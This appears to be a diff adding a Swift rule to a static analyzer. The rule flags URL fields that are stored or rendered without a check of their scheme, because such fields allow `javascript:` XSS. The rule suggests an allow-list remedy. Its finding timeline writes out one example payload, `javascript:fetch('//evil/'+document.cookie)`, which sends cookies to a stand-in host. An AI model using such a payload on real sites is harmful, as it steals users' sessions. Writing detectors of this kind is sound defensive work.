@@ -1,0 +1,317 @@
+import Flow
+
+extension Rule {
+    /// A URL that somebody else chose is stored or followed, whatever its scheme.
+    package static let unsafeURLField = Rule(
+        id: "unsafe-url-field", summary: "A URL is stored or shown without a test of its scheme", severity: .error,
+        .surfaces(.url, in: { paths, project in URLUse.all(in: paths, project) }, judged: { surfaces, project in URLField.findings(surfaces, project) }))
+}
+
+/// One place that writes a URL field, or shows it.
+private struct URLUse {
+    let holder: String?
+    let field: String
+    let span: Span
+    let step: StepID
+    let sink: Sink
+    let guardian: Surface.Guardian?
+    let confidence: Confidence
+
+    static func all(in paths: Paths, _ project: Project) -> [Surface] {
+        var uses: [URLUse] = []
+        for reached in paths.surfaces {
+            guard case .call(let call) = reached.step.kind, case .sink(let sink)? = call.purpose else { continue }
+            uses += shown(call, sink, reached, paths, project)
+        }
+        for act in paths.acts where act.write.operation != .delete { uses += written(act, paths, project) }
+        return uses.map { use in
+            var surface = Surface(.url, use.name, use.span, routine: paths.routine.name, guardian: use.guardian)
+            surface.sink = use.sink
+            surface.calls = paths.calls(to: use.step)
+            surface.confidence = paths.routine.entry == .script ? .low : use.confidence
+            return surface
+        }
+    }
+
+    private var name: String { (holder.map { Naming.fold($0) + "." } ?? "") + field }
+
+    // MARK: Shown
+
+    private static func shown(_ call: Call, _ sink: Sink, _ reached: Reached, _ paths: Paths, _ project: Project) -> [URLUse] {
+        // `redirect(302, url)`: the status comes first; `redirect('orders:show', id)` goes to a place of its own.
+        if sink == .redirect, call.arguments.first?.stringLiteral != nil { return [] }
+        let values = call.arguments.filter { !$0.isConstant }
+        guard let value = sink == .redirect ? values.last : call.arguments.first, value != .unknown || call.arguments.count > 1 else { return [] }
+        let path = call.arguments.count > 1 ? call.arguments[1].stringLiteral ?? "" : ""
+        if sink == .field {
+            guard isForeign(value) else { return [] }
+            let checked = isChecked(call.callee, of: path, project) ? Surface.Guardian("a schema that names the schemes", reached.step.span) : nil
+            return [
+                URLUse(
+                    holder: path.isEmpty ? nil : path, field: call.callee, span: reached.step.span, step: reached.step.id, sink: .field,
+                    guardian: paths.schemeGuard(of: value, at: reached) ?? checked, confidence: call.callee.namesImage ? .low : .medium)
+            ]
+        }
+        return paths.origins(ofURL: value, named: path).compactMap { origin in
+            guard let confidence = confidence(origin, sink), !paths.isComputed(origin) else { return nil }
+            return URLUse(
+                holder: origin.source == .row ? origin.holder : path.holder ?? origin.holder, field: origin.field, span: reached.step.span,
+                step: reached.step.id, sink: sink, guardian: paths.schemeGuard(of: value, at: reached),
+                confidence: confidence)
+        }
+    }
+
+    private static func confidence(_ origin: URLOrigin, _ sink: Sink) -> Confidence? {
+        let speaks = origin.field.namesURL || origin.holder.map { holder in ["links", "socials", "urls"].contains { Naming.words(holder).last == $0 } } == true
+        // The server sends a header, in which nothing runs.
+        if sink == .redirect, origin.source != .row { return nil }
+        if sink == .image { return speaks ? .low : nil }
+        switch origin.source {
+        case .request: return sink == .link ? .high : .medium
+        case .row: return speaks || sink == .redirect && ["target", "destination", "location"].contains(origin.field) ? .medium : nil
+        case .property, .name:
+            guard speaks else { return nil }
+            if ownNames.contains(where: { (origin.holder ?? "").hasWords($0) || origin.field.hasWords($0) }) { return nil }
+            return ["href", "to", "path", "next"].contains(origin.field) || menus.contains(Naming.words(origin.holder ?? "").last ?? "") ? .low : .medium
+        case .answer:
+            guard speaks, sink != .navigation, !ownNames.contains(where: { (origin.holder ?? "").hasWords($0) || origin.field.hasWords($0) }) else {
+                return nil
+            }
+            // What a server of one's own made up to go to.
+            return ["url", "href", "link", "redirect"].contains(Naming.words(origin.field).joined()) || origin.field.hasWords("redirect") ? .low : .medium
+        case .given: return speaks ? .low : nil
+        }
+    }
+
+    /// What a server makes up for one visit.
+    private static let ownNames = [
+        "checkout", "portal", "billing", "invoice", "session", "login", "logout", "auth", "oauth", "signed", "upload", "download", "charge", "transfer",
+        "canonical", "preview",
+    ]
+    /// Lists of what a page leads to by itself.
+    private static let menus: Set<String> = [
+        "items", "item", "nav", "menu", "routes", "route", "tabs", "tab", "breadcrumbs", "crumb", "sidebar", "pages", "navigation", "sections", "section",
+        "child", "children",
+    ]
+
+    // MARK: Written
+
+    private static func written(_ act: Act, _ paths: Paths, _ project: Project) -> [URLUse] {
+        // Text that nothing calls runs where somebody tends the database.
+        guard let table = act.write.table, ![.query, .stored, .module].contains(paths.routine.entry) else { return [] }
+        let known = project.schema.table(table)
+        func nested(_ column: String) -> Schema.Table? { project.schema.table(column.innermost) }
+        var uses: [URLUse] = []
+        func add(_ column: String, _ value: Value, of table: String, _ confidence: Confidence) {
+            var guardian = paths.schemeGuard(of: value, at: act.reached)
+            if guardian == nil, isChecked(column, of: table, project) { guardian = Surface.Guardian("a schema that names the schemes", act.step.span) }
+            uses.append(
+                URLUse(
+                    holder: table, field: column, span: act.step.span, step: act.step.id, sink: .field, guardian: guardian,
+                    confidence: column.namesImage || isFetched(column) || isFetched(table) ? .low : confidence))
+        }
+        for assignment in act.write.assignments {
+            if assignment.column.namesURL {
+                if isForeign(assignment.value) {
+                    // A helper that nobody calls is given what it writes by somebody unknown.
+                    let isGiven = if case .parameter = assignment.value.leading { paths.routine.entry == .none } else { false }
+                    add(assignment.column, assignment.value, of: table, isGiven ? .low : .medium)
+                } else if assignment.value.leading == .unknown {
+                    add(assignment.column, assignment.value, of: table, .low)
+                }
+            }
+            if let nested = nested(assignment.column), isForeign(assignment.value) {
+                for column in nested.columns where column.namesURL { add(column, assignment.value, of: assignment.column.innermost, .medium) }
+            }
+            // `$set: {'events.$': {...event}}`: a row inside the row.
+            if case .object(let fields, let rest) = assignment.value {
+                let inner = assignment.column.innermost
+                for field in fields where field.name.namesURL && isForeign(field.value) { add(field.name, field.value, of: inner, .medium) }
+                if let rest, isForeign(rest), let nested = nested(inner) {
+                    for column in nested.columns where column.namesURL && !fields.contains(where: { Naming.same($0.name, column) }) {
+                        add(column, rest, of: inner, .medium)
+                    }
+                }
+            }
+        }
+        guard let known else { return uses }
+        for value in act.write.openValues where isForeign(value) {
+            for column in known.columns where column.namesURL && !act.write.assignments.contains(where: { Naming.same($0.column, column) }) {
+                add(column, value, of: table, .medium)
+            }
+        }
+        return uses
+    }
+
+    /// A schema of requests or of the database lets only some schemes pass.
+    private static func isChecked(_ column: String, of table: String, _ project: Project) -> Bool {
+        let names = [column, table + column, Naming.singular(Naming.fold(table)) + column]
+        if names.contains(where: { project.validated[Naming.fold($0)] == true }) { return true }
+        return project.schema.table(table).map { $0.urls.contains($0.column(column)) } == true
+    }
+
+    /// A URL that a server calls itself runs nowhere.
+    private static func isFetched(_ column: String) -> Bool {
+        Naming.words(column).contains {
+            [
+                "webhook", "webhooks", "callback", "postback", "endpoint", "hook", "hooks", "issuer", "jwks", "known", "api", "monitor", "monitors", "feed",
+                "feeds",
+            ].contains($0)
+        }
+            || column.hasPrefix("webhook")
+    }
+
+    /// From the request, from whoever calls, or from a file that somebody has brought along.
+    private static func isForeign(_ value: Value) -> Bool {
+        switch value.leading {
+        case .input, .parameter: return true
+        case .member(let base, _): return isForeign(base)
+        case .operation(.conditional, let parts):
+            if parts.first?.testsScheme == true { return false }
+            return parts.dropFirst().contains(where: isForeign)
+        case .operation(.coalesce, let parts), .operation(.or, let parts), .either(let parts): return parts.contains(where: isForeign)
+        case .operation(.call(let name), let operands):
+            guard reading.contains(name) else { return false }
+            return operands.contains { operand in
+                if case .outcome(_, .result) = operand { return false }
+                return isForeign(operand) || !operand.isConstant
+            }
+        case .object(let fields, let rest): return fields.isEmpty && rest.map(isForeign) == true
+        case .literal, .outcome, .column, .name, .operation, .list, .unknown: return false
+        }
+    }
+
+    /// Calls that take something out of what was brought along.
+    private static let reading: Set<String> = [
+        "get", "find", "find_all", "findall", "load", "loads", "json", "parse", "safeParse", "select", "select_one", "text", "read", "fromstring", "at",
+        "match",
+        "group", "replace", "strip", "split", "attr", "pop", "getElementsByTagName", "getAttribute", "decode", "getvalue", "split_lines", "scrape", "entries",
+        "values", "items",
+    ]
+}
+
+/// A field with all the places that write and show it.
+private struct URLField {
+    let uses: [Surface]
+
+    static func findings(_ surfaces: [Surface], _ project: Project) -> [Finding] {
+        var fields: [String: [Surface]] = [:]
+        for surface in surfaces { fields[key(surface.name), default: []].append(surface) }
+        return fields.sorted { $0.key < $1.key }.compactMap { URLField(uses: $0.value).finding(project) }
+    }
+
+    private static func key(_ name: String) -> String {
+        let parts = name.split(separator: ".")
+        guard parts.count > 1, let holder = parts.first, let field = parts.last else { return Naming.fold(name) }
+        // `source_url` says what it is of; `url` does not.
+        if Naming.words(String(field)).count > 1 { return Naming.fold(String(field)) }
+        return Naming.singular(String(holder)) + "." + Naming.fold(String(field))
+    }
+
+    private func finding(_ project: Project) -> Finding? {
+        let writes = uses.filter { $0.sink == .field }.sorted { $0.span < $1.span }, shows = uses.filter { $0.sink != .field }.sorted { $0.span < $1.span }
+        let openWrites = writes.filter { $0.guardian == nil }
+        // Every write lets only harmless schemes in: so are the rows.
+        if !writes.isEmpty, openWrites.isEmpty { return nil }
+        let openShows = shows.filter { $0.guardian == nil }.map { shown in
+            var shown = shown
+            if project.refusingScriptLinks.contains(shown.span.file), shown.sink == .link { shown.confidence = .low }
+            return shown
+        }
+        let places = openWrites + openShows
+        guard let first = places.max(by: { ($0.confidence, $1.span) < ($1.confidence, $0.span) }) else { return nil }
+        var confidence = places.map(\.confidence).max() ?? .low
+        // Both ends are open.
+        if confidence == .medium, openWrites.contains(where: { $0.confidence == .medium }), openShows.contains(where: { $0.confidence == .medium }) {
+            confidence = .high
+        }
+        return finding(first, openWrites, openShows, confidence)
+    }
+
+    private func finding(_ first: Surface, _ writes: [Surface], _ shows: [Surface], _ confidence: Confidence) -> Finding {
+        let field = "`\(first.name)`"
+        let ordered = ([first] + writes.filter { $0.span != first.span } + shows.filter { $0.span != first.span })
+        var evidence: [Evidence] = []
+        // The places first; how they are reached, as far as there is room.
+        let places = ordered.reduce(into: [Surface]()) { known, use in if !known.contains(where: { $0.span == use.span }) { known.append(use) } }.prefix(14)
+        var room = 15 - places.count
+        for use in places {
+            for call in use.calls where room > 0 && !evidence.contains(where: { $0.span == call }) {
+                evidence.append(Evidence(.call, call, "through this call"))
+                room -= 1
+            }
+            let does = use.sink.map { $0 == .field ? "stores \(field) as it comes" : "\($0.verb) \(field)" } ?? ""
+            evidence.append(Evidence(use.sink == .field ? .act : .effect, use.span, does))
+        }
+        let passive = shows.first?.sink?.passive ?? ""
+        let isStored = !writes.isEmpty, isShown = !shows.isEmpty
+        let isImage = shows.allSatisfy { $0.sink == .image } && first.name.namesImage
+        let message: String =
+            if isStored, isShown {
+                "\(field) is stored as it comes and \(passive) later, so whoever sets it to `javascript:…` runs code in the pages of others."
+            } else if isStored {
+                "\(field) is stored as it comes: `javascript:…` and `data:text/html,…` are URLs too, and run wherever the field becomes a link."
+            } else {
+                "\(field) \(passive) without a test of its scheme, so a value such as `javascript:…` runs code in the page of whoever follows it."
+            }
+        return Finding(
+            rule: Rule.unsafeURLField.id,
+            severity: isImage ? .note : confidence == .low || !isStored && shows.allSatisfy { $0.sink == .redirect } ? .warning : .error,
+            confidence: confidence, message: message,
+            help:
+                "Let only http, https, mailto and tel pass, at every write on the server (422 otherwise) and once more where it is shown, for rows that are there already; `new URL(x)` and `z.string().url()` let any scheme pass.",
+            remedy: """
+                const safeHref = (url) => {
+                  try { return ['http:', 'https:', 'mailto:', 'tel:'].includes(new URL(url).protocol) ? url : null; } catch { return null; }
+                };
+                """,
+            span: first.span, evidence: evidence,
+            timeline: [
+                Moment(.first, "sets \(field) to `javascript:fetch('//evil/'+document.cookie)`", evidence: evidence.firstIndex { $0.span == first.span } ?? 0),
+                Moment(
+                    .second, isShown ? "opens the page, and follows the link" : "opens a page that shows it",
+                    evidence: evidence.lastIndex { $0.role == .effect } ?? evidence.count - 1),
+                Moment(.both, "the code runs as the second, with all that they may do"),
+            ], routine: first.routine)
+    }
+}
+
+extension Sink {
+    fileprivate var verb: String {
+        switch self {
+        case .link: "links to"
+        case .navigation: "goes to"
+        case .redirect: "sends the browser to"
+        case .image: "shows an image from"
+        case .frame: "frames"
+        case .field: "stores"
+        }
+    }
+
+    fileprivate var passive: String {
+        switch self {
+        case .link: "becomes a link"
+        case .navigation: "is gone to"
+        case .redirect: "is redirected to"
+        case .image: "is shown as an image"
+        case .frame: "is framed"
+        case .field: "is stored"
+        }
+    }
+}
+
+extension String {
+    /// `partner` of `partner.website`, `page.partner.website`
+    fileprivate var holder: String? { split(separator: ".").dropLast().last.map(String.init) }
+
+    /// `events` of `profile.events.$`
+    fileprivate var innermost: String { split { $0 == "." || $0 == "$" }.last.map(String.init) ?? self }
+}
+
+extension Paths {
+    /// No column of its table: the model makes it up.
+    fileprivate func isComputed(_ origin: URLOrigin) -> Bool {
+        guard origin.source == .row, let table = origin.holder.flatMap({ schema.table($0) }), !table.columns.isEmpty else { return false }
+        return !table.columns.contains(table.column(origin.field)) && !table.columns.contains { Naming.same($0, origin.field) }
+    }
+}
